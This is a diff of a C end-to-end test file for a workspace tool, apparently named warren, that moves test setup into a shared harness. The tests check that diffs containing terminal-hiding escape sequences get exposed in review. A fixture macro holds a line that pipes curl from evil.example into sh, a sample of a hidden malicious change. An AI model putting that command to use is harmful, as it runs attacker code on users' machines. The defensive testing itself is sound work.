@@ -31,6 +31,7 @@
 #include "queue/queue.h"
 #include "store/store.h"
 #include "tests/e2e/harness.h"
+#include "tests/e2e/harness_cow.h"
 #include "workspace/cow.h"
 
 /* A Makefile recipe hidden on a terminal by the comment after it: cursor
@@ -68,40 +69,15 @@
 #define T_BIG_TAIL	"\nrequire('child_process').execSync('curl -s " \
 			"http://evil.example/x | sh');\n"
 
-struct t {
-	char	*dir;
-	char	 ws[PATH_MAX];		/* canonical */
-	char	 state[PATH_MAX];	/* $XDG_STATE_HOME */
-	char	 db[PATH_MAX + 32];
-};
-
 static void
-t_open(struct t *t)
+t_open(struct h_cowrun *t)
 {
-	char	p[PATH_MAX + 16];
-
-	memset(t, 0, sizeof(*t));
-	t->dir = h_tmpdir();
-	snprintf(p, sizeof(p), "%s/ws", t->dir);
-	h_write(p, "Makefile", T_MK_BASE, 0);
-	h_write(p, "check.js", "ok\n", 0);
-	h_write(p, "index.js", "console.log(1);\n", 0);
-	h_write(p, "ok.txt", "one\n", 0);
-	assert_non_null(realpath(p, t->ws));
-	snprintf(t->state, sizeof(t->state), "%s/state", t->dir);
-	assert_int_equal(mkdir(t->state, 0700), 0);
+	h_cowrun_open(t, "Makefile", T_MK_BASE, "check.js", "ok\n",
+	    "index.js", "console.log(1);\n", "ok.txt", "one\n", NULL);
 	assert_int_equal(setenv("XDG_STATE_HOME", t->state, 1), 0);
 	unsetenv("WARREN_QUEUE_URL");
 	unsetenv("WARREN_DB");
 	unsetenv("NO_COLOR");
-	snprintf(t->db, sizeof(t->db), "%s/warren.db", t->state);
-}
-
-static void
-t_close(struct t *t)
-{
-	h_rm_rf(t->dir);
-	free(t->dir);
 }
 
 /* A file of len bytes (NULs and all) at dir/rel. */
@@ -155,68 +131,21 @@ t_layer(struct cow *c, int kind)
 
 /* A finished run whose copy-mode layer holds t_layer(kind). */
 static int64_t
-t_run(struct t *t, struct cow *c, int kind)
+t_run(struct h_cowrun *t, struct cow *c, int kind)
 {
-	struct store_run_params	 p;
-	struct store		*st;
-	char			 err[1024];
-	int64_t			 run;
-
-	memset(&p, 0, sizeof(p));
-	p.task = "DIFF-REVIEW-TASK";
-	p.workspace = t->ws;
-	if (cow_create(c, COW_COPY, t->ws, t->state, err, sizeof(err)) == -1)
-		fail_msg("cow_create: %s", err);
+	h_cowrun_layer(t, c);
 	t_layer(c, kind);
-	p.cow_mode = "copy";
-	p.cow_dir = c->dir;
-	if ((st = store_open(t->db, STORE_CREATE, err, sizeof(err))) == NULL)
-		fail_msg("store_open: %s", err);
-	assert_int_equal(store_run_begin(st, &p, &run), 0);
-	assert_int_equal(store_run_end(st, run, STORE_RUN_DONE, "ok"), 0);
-	store_close(st);
-	return run;
+	return h_cowrun_record(t, c, "DIFF-REVIEW-TASK", 1);
 }
 
 /* warren CMD --db DB [A1 [A2]] RUN, env extra (or NULL). */
 static void
-t_warren(struct t *t, struct h_run *r, char **env, char *cmd, char *a1,
-    char *a2, int64_t run)
+t_warren(struct h_cowrun *t, struct h_run *r, char **env, char *cmd,
+    char *a1, char *a2, int64_t run)
 {
-	char	 id[32], *argv[8];
-	int	 n = 0;
-
-	snprintf(id, sizeof(id), "%lld", (long long)run);
-	argv[n++] = "warren";
-	argv[n++] = cmd;
-	argv[n++] = "--db";
-	argv[n++] = t->db;
-	if (a1 != NULL)
-		argv[n++] = a1;
-	if (a2 != NULL)
-		argv[n++] = a2;
-	argv[n++] = id;
-	argv[n] = NULL;
-	assert_int_equal(h_warren(r, argv, env, NULL, NULL), 0);
+	h_cowrun_warren(t, r, env, cmd, a1, a2, run);
 }
 
-/* warren queue ARG... (NULL-terminated). */
-static void
-t_q(struct h_run *r, ...)
-{
-	va_list	 ap;
-	char	*argv[32];
-	int	 n = 0;
-
-	argv[n++] = "warren";
-	argv[n++] = "queue";
-	va_start(ap, r);
-	while (n < 31 && (argv[n] = va_arg(ap, char *)) != NULL)
-		n++;
-	va_end(ap);
-	argv[n] = NULL;
-	assert_int_equal(h_warren(r, argv, NULL, NULL, NULL), 0);
-}
 
 /* What a terminal would act on or hide: no ESC (but colour's SGR
  * "ESC [ digits m" when colour is on), CR, BEL, C1 CSI, U+202E, U+2066,
@@ -279,7 +208,7 @@ t_uncolour(char *s)
 static void
 test_diff_escaped(void **state)
 {
-	struct t	 t;
+	struct h_cowrun	 t;
 	struct h_run	 r;
 	struct cow	 c;
 	int64_t		 run;
@@ -320,13 +249,13 @@ test_diff_escaped(void **state)
 	t_no_controls("a pipe", out, 0);
 	t_shown("a pipe", out);
 	free(out);
-	t_close(&t);
+	h_cowrun_close(&t);
 }
 
 /* Run cmd in a copy of the workspace; the copy's file rel must then be
  * the layer's, byte for byte. */
 static void
-t_patch_takes(struct t *t, const struct cow *c, const char *name,
+t_patch_takes(struct h_cowrun *t, const struct cow *c, const char *name,
     const char *apply)
 {
 	static const char	*files[] = { "Makefile", "check.js", T_NAME };
@@ -358,7 +287,7 @@ t_patch_takes(struct t *t, const struct cow *c, const char *name,
 static void
 test_diff_raw(void **state)
 {
-	struct t	 t;
+	struct h_cowrun	 t;
 	struct h_run	 r;
 	struct cow	 c;
 	int64_t		 run;
@@ -384,11 +313,11 @@ test_diff_raw(void **state)
 	assert_int_equal(r.status, 2);
 	assert_non_null(strstr(r.err, "--raw"));
 	h_run_free(&r);
-	t_close(&t);
+	h_cowrun_close(&t);
 }
 
 static size_t
-t_size(const struct t *t, const char *rel)
+t_size(const struct h_cowrun *t, const char *rel)
 {
 	struct stat	sb;
 	char		p[2 * PATH_MAX];
@@ -401,7 +330,7 @@ t_size(const struct t *t, const char *rel)
 
 /* The workspace as it was: Makefile and index.js unchanged, no logo. */
 static void
-t_held(const struct t *t)
+t_held(const struct h_cowrun *t)
 {
 	assert_int_equal(t_size(t, "Makefile"), strlen(T_MK_BASE));
 	assert_int_equal(t_size(t, "index.js"), strlen("console.log(1);\n"));
@@ -410,7 +339,7 @@ t_held(const struct t *t)
 
 /* The layer's: the NUL Makefile, the 9 MB index.js, the logo. */
 static void
-t_written(const struct t *t)
+t_written(const struct h_cowrun *t)
 {
 	assert_int_equal(t_size(t, "Makefile"), T_MK_NUL_LEN);
 	assert_int_equal(t_size(t, "index.js"), T_BIG_LEN);
@@ -446,7 +375,7 @@ t_listed(const char *out, int stat)
 static void
 test_unreviewed_held(void **state)
 {
-	struct t	 t;
+	struct h_cowrun	 t;
 	struct h_run	 r;
 	struct cow	 c;
 	int64_t		 run;
@@ -505,13 +434,13 @@ test_unreviewed_held(void **state)
 	assert_int_equal(r.status, 2);
 	assert_non_null(strstr(r.err, "layer is applied"));
 	h_run_free(&r);
-	t_close(&t);
+	h_cowrun_close(&t);
 }
 
 /* Job `task` added for the workspace and finished with the change set of
  * a layer holding t_layer(kind): as a worker elsewhere stores it. */
 static void
-t_job(struct t *t, const char *task, int kind)
+t_job(struct h_cowrun *t, const char *task, int kind)
 {
 	struct queue_result	 res;
 	struct queue_job	 j;
@@ -523,7 +452,8 @@ t_job(struct t *t, const char *task, int kind)
 	void			*set;
 	size_t			 len;
 
-	t_q(&r, "add", "--workspace", t->ws, task, NULL);
+	h_warren_l(&r, NULL, "queue", "add", "--workspace", t->ws, task,
+	    NULL);
 	assert_int_equal(r.status, 0);
 	h_run_free(&r);
 	if (cow_create(&c, COW_COPY, t->ws, t->dir, err, sizeof(err)) == -1)
@@ -558,7 +488,7 @@ t_job(struct t *t, const char *task, int kind)
 static void
 test_queue_review(void **state)
 {
-	struct t	 t;
+	struct h_cowrun	 t;
 	struct h_run	 r;
 	char		 cwd[PATH_MAX];
 
@@ -570,22 +500,22 @@ test_queue_review(void **state)
 	 * only where the user is, test_apply_forged). */
 	assert_non_null(getcwd(cwd, sizeof(cwd)));
 	assert_int_equal(chdir(t.ws), 0);
-	t_q(&r, "diff", "1", NULL);
+	h_warren_l(&r, NULL, "queue", "diff", "1", NULL);
 	if (r.status != 0)
 		fail_msg("queue diff: %d\n%s%s", r.status, r.out, r.err);
 	t_no_controls("queue diff", r.out, 0);
 	t_shown("queue diff", r.out);
 	h_run_free(&r);
-	t_q(&r, "diff", "--raw", "1", NULL);
+	h_warren_l(&r, NULL, "queue", "diff", "--raw", "1", NULL);
 	assert_int_equal(r.status, 0);
 	assert_non_null(strstr(r.out, "+#\033[1A\033[2K\r"));
 	h_run_free(&r);
 
-	t_q(&r, "diff", "2", NULL);
+	h_warren_l(&r, NULL, "queue", "diff", "2", NULL);
 	assert_int_equal(r.status, 0);
 	t_listed(r.out, 0);
 	h_run_free(&r);
-	t_q(&r, "apply", "2", NULL);
+	h_warren_l(&r, NULL, "queue", "apply", "2", NULL);
 	if (r.status != 0)
 		fail_msg("queue apply: %d\n%s%s", r.status, r.out, r.err);
 	t_held(&t);
@@ -595,17 +525,20 @@ test_queue_review(void **state)
 	t_held(&t);
 	assert_int_equal(t_size(&t, "ok.txt"), 4);
 	h_run_free(&r);
-	t_q(&r, "apply", "--include", "logo.png", "2", NULL);
+	h_warren_l(&r, NULL, "queue", "apply", "--include", "logo.png", "2",
+	    NULL);
 	if (r.status != 0)
 		fail_msg("queue apply --include logo.png: %d\n%s%s", r.status,
 		    r.out, r.err);
 	assert_int_equal(t_size(&t, "logo.png"), 16);
 	assert_int_equal(t_size(&t, "Makefile"), strlen(T_MK_BASE));
 	h_run_free(&r);
-	t_q(&r, "apply", "--include", "logo.png", "--all-done", NULL);
+	h_warren_l(&r, NULL, "queue", "apply", "--include", "logo.png",
+	    "--all-done", NULL);
 	assert_int_equal(r.status, 2);
 	h_run_free(&r);
-	t_q(&r, "apply", "--include-unreviewed", "2", NULL);
+	h_warren_l(&r, NULL, "queue", "apply", "--include-unreviewed", "2",
+	    NULL);
 	if (r.status != 0)
 		fail_msg("queue apply --include-unreviewed: %d\n%s%s", r.status,
 		    r.out, r.err);
@@ -613,7 +546,7 @@ test_queue_review(void **state)
 	t_written(&t);
 	h_run_free(&r);
 	assert_int_equal(chdir(cwd), 0);
-	t_close(&t);
+	h_cowrun_close(&t);
 }
 
 /* tmux on a server of the test's own (-L sock), never the user's. */
@@ -655,7 +588,7 @@ t_tmux_out(const char *sock, const char *what)
  * in *title.
  */
 static void
-t_in_tmux(struct t *t, const char *show, char **pane, char **title)
+t_in_tmux(struct h_cowrun *t, const char *show, char **pane, char **title)
 {
 	static int	 nth;
 	char		 sock[64], script[PATH_MAX + 16], body[4 * PATH_MAX];
@@ -693,7 +626,7 @@ t_in_tmux(struct t *t, const char *show, char **pane, char **title)
 static void
 test_diff_tmux(void **state)
 {
-	struct t	 t;
+	struct h_cowrun	 t;
 	struct cow	 c;
 	int64_t		 run;
 	char		 show[3 * PATH_MAX], *pane, *title;
@@ -722,7 +655,7 @@ test_diff_tmux(void **state)
 		free(pane);
 		free(title);
 	}
-	t_close(&t);
+	h_cowrun_close(&t);
 }
 
 int
